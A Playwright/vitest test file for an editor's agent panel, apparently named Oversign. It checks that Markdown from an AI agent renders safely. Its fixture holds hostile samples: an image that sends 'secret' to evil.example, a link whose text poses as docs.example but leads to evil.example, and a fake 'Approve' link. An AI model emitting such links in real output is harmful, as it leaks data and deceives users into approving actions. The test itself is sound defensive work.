import type { Locator } from 'playwright-core';
import { expect, test } from 'vitest';
import { windowWithStory } from './story.ts';
import { runFromPalette, type Window } from './window.ts';

const RICH = `**Found it.** \`total\` stops one item early: src/total.mjs:4 loops to \`length - 1\`, and \`src/total.py\` does the same.

## What I changed

1. The loop in [the source](src/total.mjs#L4) now counts the *last* item.
2. ~~A second pass~~ is not needed:
   - [x] all tests pass
   - [ ] the shell version is untested

\`\`\`js
// The total of a receipt, in cents, with a line that is much longer than the panel is wide at three hundred pixels.
export function total(items) {
  let sum = 0;
  for (let i = 0; i < items.length; i += 1) sum += items[i].price * 100;
  return \`\${sum}\`;
}
\`\`\`

| File | Before | After | What it says about the receipt |
|------|-------:|------:|---------|
| \`total.mjs\` | 500 | **699** | counts the last item |
| \`total.py\` | 500 | 500 | is as it was |

> The build folder is stale, and in no commit.

Read more in [the manual](https://docs.example/loops?from=oversign), not at [docs.example](https://evil.example/x) or on [the dashboard](http://127.0.0.1:9/stop).
![a chart](https://evil.example/pixel.png?secret=1) <b>HTML</b> stays text, like a \u202E turned direction.

---

### Approval needed: Delete build/

[Approve](https://evil.example/approve) [Deny](command:oversign.stop)`;

const STORY = [
  {
    text: 'I will look first.',
    calls: [
      { name: 'read_file', args: { path: 'src/total.mjs' } },
      { name: 'read_file', args: { path: 'src/total.py' } },
      { name: 'read_file', args: { path: 'test/total.test.mjs' } },
      { name: 'list_directory', args: { path: 'src' } },
      { name: 'search_files', args: { pattern: 'length', path: '.' } },
    ],
  },
  {},
  {},
  {},
  {},
  { text: RICH, paceMs: 10 },
];

async function toldTo(window: Window): Promise<Locator> {
  await runFromPalette(window, 'Find the bug');
  const words = window.panel.getByTestId('words').last();
  await window.panel.getByText('What I changed').waitFor({ timeout: 120_000 });
  // What is whole is not touched any more: counted while the rest streams in.
  await words.evaluate((element) => {
    const whole = [...element.children].slice(0, 1);
    const changes = { whole: 0, all: 0 };
    Object.assign(element, { changes });
    new MutationObserver((records) => {
      changes.all += records.length;
      changes.whole += records.filter(({ target }) => whole.some((one) => one.contains(target))).length;
    }).observe(element, { subtree: true, childList: true, characterData: true, attributes: true });
  });
  await window.state('finished');
  return words;
}

/** Makes the secondary side bar so wide. */
async function widen({ editor: { page } }: Window, width: number): Promise<void> {
  const box = await page.locator('.part.auxiliarybar').boundingBox();
  if (!box) throw new Error('the secondary side bar is not there');
  await page.mouse.move(box.x, 400);
  await page.mouse.down();
  await page.mouse.move(box.x + box.width - width, 400, { steps: 5 });
  await page.mouse.up();
}

test('the agent’s words as Markdown: drawn once, followed through the editor, and never the panel’s own', async () => {
  const window = await windowWithStory(STORY);
  const { editor, panel } = window;
  const { page } = editor;
  const asked: string[] = [];
  const violations: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  page.on('console', (message) => {
    if (/Content Security Policy/.test(message.text())) violations.push(message.text());
  });
  await editor.palette('Oversign: Focus on Agent View');
  await panel.getByTestId('task-box').waitFor({ timeout: 120_000 });
  await widen(window, 340);
  const words = await toldTo(window);

  const changes = await words.evaluate((element) => (element as unknown as { changes: object }).changes);
  console.log('changes of the page while it streamed', changes);
  expect(changes).toMatchObject({ whole: 0 });
  expect((changes as { all: number }).all).toBeGreaterThan(20);

  // Looks are one line, and unfold.
  const looks = panel.getByTestId('looks');
  expect(await looks.locator('summary').first().innerText()).toMatch(/Read 3 files, listed 1 folder, searched once/);
  expect(await panel.locator('[data-tool="read_file"]').first().isVisible()).toBe(false);
  await looks.locator('summary').first().click();
  expect(await panel.locator('[data-tool="read_file"]').count()).toBe(3);
  expect(await panel.locator('[data-tool="read_file"]').first().isVisible()).toBe(true);
  await looks.locator('summary').first().click();

  // The highlighter came by the page's strict policy, and in the editor's colours.
  await words.locator('pre .md-keyword').first().waitFor({ timeout: 90_000 });
  expect(await words.locator('img, iframe, script, style, a, form, h1, h2, h3').count()).toBe(0);
  expect(await words.innerText()).toContain('\\u{202E}');
  expect(await words.innerText()).toContain('<b>HTML</b>');

  // For the pictures: room, so that the most of it is in sight.
  await page.setViewportSize({ width: 1280, height: 1200 });
  await words.evaluate((element) => {
    element.scrollIntoView({ block: 'start' });
  });
  await window.shots('words-300', '1-top');
  await words.evaluate((element) => {
    element.scrollIntoView({ block: 'end' });
  });
  await window.shots('words-300', '2-end');
  // Nothing of it is wider than the panel, whatever it holds.
  const [inner, outer] = await words.evaluate((element) => {
    const transcript = element.closest('.transcript');
    return [transcript?.scrollWidth ?? 0, transcript?.clientWidth ?? 0];
  });
  expect(inner).toBeLessThanOrEqual(outer);
  await widen(window, 760);
  await words.evaluate((element) => {
    element.scrollIntoView({ block: 'start' });
  });
  await window.shots('words-wide', '1-top');
  await words.evaluate((element) => {
    element.scrollIntoView({ block: 'end' });
  });
  await window.shots('words-wide', '2-end');
  await widen(window, 340);
  await page.setViewportSize({ width: 1280, height: 800 });

  // A link says where it leads; the editor asks before it opens one.
  const targets = await words.getByTestId('link-target').allInnerTexts();
  expect(targets).toEqual([
    '(docs.example)',
    '(https://evil.example/x)',
    '(127.0.0.1:9)',
    '(evil.example)',
    '(evil.example)',
    '(command:oversign.stop)',
  ]);
  await words.getByRole('link', { name: 'the manual' }).click();
  const dialog = page.locator('.monaco-dialog-box');
  await dialog.waitFor({ timeout: 90_000 });
  expect(await dialog.innerText()).toContain('https://docs.example/loops?from=oversign');
  await window.shot('words-link-asks');
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'detached', timeout: 30_000 });
  // This machine the editor takes for known: there Oversign asks.
  await words.getByRole('link', { name: 'the dashboard' }).click();
  await dialog.waitFor({ timeout: 90_000 });
  expect(await dialog.innerText()).toContain('http://127.0.0.1:9/stop');
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'detached', timeout: 30_000 });
  expect(await words.getByRole('link', { name: 'Deny' }).count()).toBe(0);

  // Copying says so, and takes the source along.
  const box = panel.getByTestId('task-box');
  const code = words.getByRole('button', { name: 'Copy code' });
  await code.click();
  await words.getByText('Copied').waitFor({ state: 'attached', timeout: 90_000 });
  await box.click();
  await page.keyboard.press('Control+V');
  await expect.poll(() => box.inputValue(), { timeout: 90_000 }).toContain('return `${sum}`;');
  await box.fill('');
  await editor.palette('Oversign: Copy Transcript as Markdown');
  await page.getByText('Oversign: copied').first().waitFor({ timeout: 90_000 });
  await box.click();
  await page.keyboard.press('Control+V');
  await expect.poll(() => box.inputValue(), { timeout: 90_000 }).toContain('> ## What I changed');
  expect(await box.inputValue()).toContain('- `Read src/total.mjs`: done');
  await box.fill('');

  // A place in a file opens there, by the keyboard too.
  await words.getByRole('link', { name: 'src/total.mjs:4' }).focus();
  await page.keyboard.press('Enter');
  await page.locator('.tab', { hasText: 'total.mjs' }).waitFor({ timeout: 90_000 });
  await page.getByText('Ln 4, Col 1').first().waitFor({ timeout: 90_000 });
  expect(await words.getByRole('link', { name: 'src/total.py' }).count()).toBe(1);
  expect(await words.getByRole('link', { name: 'length - 1' }).count()).toBe(0);

  expect(asked.filter((url) => /evil\.example|docs\.example/.test(url))).toEqual([]);
  expect(asked.some((url) => url.includes('panel-highlighter'))).toBe(true); // or nothing was looked at
  expect(violations.filter((text) => /oversign|panel-|webview\.(js|css)/.test(text))).toEqual([]);
});
